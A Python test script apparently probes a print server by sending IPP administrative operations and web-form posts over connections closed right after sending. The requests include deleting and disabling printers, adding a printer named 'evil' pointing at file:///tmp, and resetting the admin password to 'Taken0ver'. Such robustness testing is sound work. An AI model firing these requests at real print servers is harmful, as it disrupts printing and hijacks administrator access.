#!/usr/bin/env python3
"""Sends administrative requests to the app and closes each connection as soon as it is sent,
so that the server reads it from a socket its client has already closed: IPP operations padded
with many attributes, and the web interface's forms with long bodies. Prints how many were sent.
Bounded: every connection has a timeout and the whole run stops after --seconds.

usage: closed_requests.py HOST PORT TRIES SESSION-TOKEN [--seconds N]
"""
import socket
import struct
import sys
import time
import urllib.parse

PADDINGS = (0, 300, 3000)


def attribute(tag, name, value):
    data = value if isinstance(value, bytes) else value.encode()
    return struct.pack(">BH", tag, len(name)) + name.encode() + struct.pack(">H", len(data)) + data


def ipp(operation, target, padding, more=b""):
    body = struct.pack(">BBHI", 2, 0, operation, 1) + b"\x01"
    body += attribute(0x47, "attributes-charset", "utf-8")
    body += attribute(0x48, "attributes-natural-language", "en")
    body += attribute(0x45, target[0], target[1])
    body += attribute(0x42, "requesting-user-name", "root")
    for i in range(padding):
        body += attribute(0x42, "x-padding-%d" % i, "x")
    return body + more + b"\x03"


def requests(port, token, padding):
    printer = ("printer-uri", "ipp://127.0.0.1:%d/ipp/print/label" % port)
    system = ("system-uri", "ipp://127.0.0.1:%d/ipp/system" % port)
    printer_group = b"\x04" + attribute(0x21, "gray-threshold-default", struct.pack(">i", 10))
    system_group = b"\x0a" + attribute(0x41, "system-location", "taken")
    operations = [
        (0x13, printer, printer_group),  # Set-Printer-Attributes
        (0x10, printer, b""),  # Pause-Printer
        (0x25, printer, b""),  # Hold-New-Jobs
        (0x23, printer, b""),  # Disable-Printer
        (0x62, system, system_group),  # Set-System-Attributes
        (0x59, system, b""),  # Disable-All-Printers
        (0x4E, system, attribute(0x21, "printer-id", struct.pack(">i", 1))),  # Delete-Printer
    ]
    for operation, target, more in operations:
        body = ipp(operation, target, padding, more)
        yield (b"POST /ipp/%s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/ipp\r\n"
               b"Content-Length: %d\r\n\r\n" % (b"system" if target is system else b"print/label", port,
                                                len(body))) + body
    forms = [
        ("/label", {"action": "pause-printer"}),
        ("/label", {"action": "hold-new-jobs"}),
        ("/addprinter", {"printer_name": "evil", "driver_name": "qxvn", "device_uri": "file:///tmp"}),
        ("/security", {"new_password": "Taken0ver", "new_password2": "Taken0ver"}),
    ]
    for path, fields in forms:
        fields = dict(fields, session=token)
        for i in range(padding):
            fields["x%d" % i] = "x"
        body = urllib.parse.urlencode(fields).encode()
        yield (b"POST %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/x-www-form-urlencoded\r\n"
               b"Content-Length: %d\r\n\r\n" % (path.encode(), port, len(body))) + body


def main(argv):
    if len(argv) < 5:
        print(__doc__.strip().splitlines()[-1], file=sys.stderr)
        return 2
    host, port, tries, token = argv[1], int(argv[2]), int(argv[3]), argv[4]
    seconds = float(argv[6]) if len(argv) > 6 and argv[5] == "--seconds" else 60.0
    deadline = time.monotonic() + seconds
    sent = 0
    while sent < tries and time.monotonic() < deadline:
        for message in requests(port, token, PADDINGS[sent % len(PADDINGS)]):
            try:
                with socket.create_connection((host, port), timeout=5) as connection:
                    connection.sendall(message)
            except OSError:
                pass
            sent += 1
            if sent >= tries or time.monotonic() >= deadline:
                break
    print("sent %d" % sent)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
